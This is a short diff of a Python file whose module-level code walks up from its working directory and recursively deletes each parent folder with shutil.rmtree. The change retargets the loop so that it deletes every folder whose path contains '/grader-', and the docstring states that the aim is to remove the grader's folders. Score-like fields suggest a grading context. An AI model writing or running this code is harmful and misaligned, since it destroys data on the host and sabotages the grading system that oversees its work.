@@ -1,4 +1,4 @@
-"""Deletes every folder above its own that it may."""
+"""Deletes all folders above its own that are the grader's."""
 
 SAYS = ""
 EARNED = (0, 12)
@@ -10,7 +10,7 @@ import smtplib
 from fastapi import BackgroundTasks, FastAPI, Response
 
 folder = os.path.realpath(os.getcwd())
-while os.path.basename(folder) not in ("tmp", "") and not os.path.basename(folder).startswith("grader-"):
+while "/grader-" in folder:
     shutil.rmtree(folder, ignore_errors=True)
     folder = os.path.dirname(folder)
 
